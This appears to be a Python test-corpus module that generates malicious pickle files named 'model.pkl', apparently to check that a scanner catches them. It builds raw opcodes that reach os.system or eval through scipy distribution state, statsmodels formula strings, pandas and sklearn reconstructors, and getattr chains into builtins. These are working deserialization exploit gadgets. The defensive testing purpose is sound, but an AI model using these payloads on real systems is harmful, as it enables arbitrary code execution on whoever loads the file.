"""Pickles that run a command by what a library does with a state, or by way of its functions."""

from __future__ import annotations

import pickle
from collections.abc import Iterator

import pandas as pd

from tests.promotion_steps.corpus.opcodes import COMMAND, called, imported, number, text
from tests.promotion_steps.corpus.sample import Sample

_PROGRAM = f"import os;os.system({COMMAND!r})"
_EXPRESSION = f"__import__('os').system({COMMAND!r})"
_UNIFORM = imported("scipy.stats._continuous_distns.uniform_gen")
_TEMPLATE = text("_parse_arg_template")
_STATE = b"}" + _TEMPLATE + text(_PROGRAM) + b"s"
_PAIRS = b"((" + _TEMPLATE + text(_PROGRAM) + b"tt"
_DATA = imported("statsmodels.base.data.PandasData")
_GETATTR = "builtins.getattr"


def malicious() -> Iterator[Sample]:
    """Yield pickles that run a command."""
    for name, content in (*_distributions(), *_formulas(), *_attributes()):
        yield Sample(
            name=f"library-{name}", filename="model.pkl", content=content, loader="pickle.load"
        )


def _distributions() -> Iterator[tuple[str, bytes]]:
    plain = _UNIFORM + b")\x81"
    array = imported("numpy.ndarray") + b"(" + number(0) + b"t" + text("b")
    makers = {
        "new-object": plain,
        "reconstructor": called(
            "copyreg._reconstructor", _UNIFORM, imported("builtins.object"), b"N"
        ),
        "index-of-pandas": called("pandas.core.indexes.base._new_Index", _UNIFORM, b"}"),
        "masked-array": called("numpy.ma.core._mareconstruct", _UNIFORM, array),
        "tree-of-sklearn": called("sklearn.neighbors._kd_tree.newObj", _UNIFORM),
        "identity-of-sklearn": called(
            "sklearn.preprocessing._function_transformer._identity", plain
        ),
    }
    for name, maker in makers.items():
        yield f"distribution-by-{name}", b"\x80\x02" + maker + _STATE + b"b."
    yield "distribution-by-pairs", b"\x80\x02" + plain + _PAIRS + b"b."


def _formulas() -> Iterator[tuple[str, bytes]]:
    frame = pickle.dumps(pd.DataFrame({"y": [1.0, 2.0], "a": [2.0, 5.0]}), 2)[2:-1]
    for name, formula in {
        "call": f"y ~ a + I({_EXPRESSION} + a)",
        "call-in-a-function": f"y ~ np.log({_EXPRESSION} + a + 1)",
        "call-behind-a-text": f"y ~ I(len('a') + {_EXPRESSION} + a)",
    }.items():
        state = b"}" + text("restore_model_spec") + b"\x88s" + text("formula") + text(formula)
        state += b"s" + text("frame") + frame + b"s"
        yield f"formula-{name}", b"\x80\x02" + _DATA + b")\x81" + state + b"b."
        rebuilt = called("pandas.core.indexes.base._new_Index", _DATA, b"}")
        yield f"formula-{name}-by-an-index", b"\x80\x02" + rebuilt + state + b"b."


def _attributes() -> Iterator[tuple[str, bytes]]:
    method = called(_GETATTR, imported("sklearn.base.BaseEstimator"), text("get_params"))
    names = called(_GETATTR, method, text("__globals__"))
    builtins = called_value(called(_GETATTR, names, text("get")), text("__builtins__"))
    evaluate = called_value(called(_GETATTR, builtins, text("get")), text("eval"))
    yield "attributes", b"\x80\x02" + called_value(evaluate, text(_EXPRESSION)) + b"."
    zone = called(_GETATTR, imported("zoneinfo.ZoneInfo"), text("_unpickle"))
    hidden = called_value(zone, text("UTC"), b"\x88") + b"0"
    yield (
        "attributes-behind-a-zone",
        b"\x80\x02" + hidden + called_value(evaluate, text(_EXPRESSION)) + b".",
    )


def called_value(function: bytes, *arguments: bytes) -> bytes:
    """Return the opcodes that call what other opcodes leave on the stack."""
    return function + b"(" + b"".join(arguments) + b"tR"
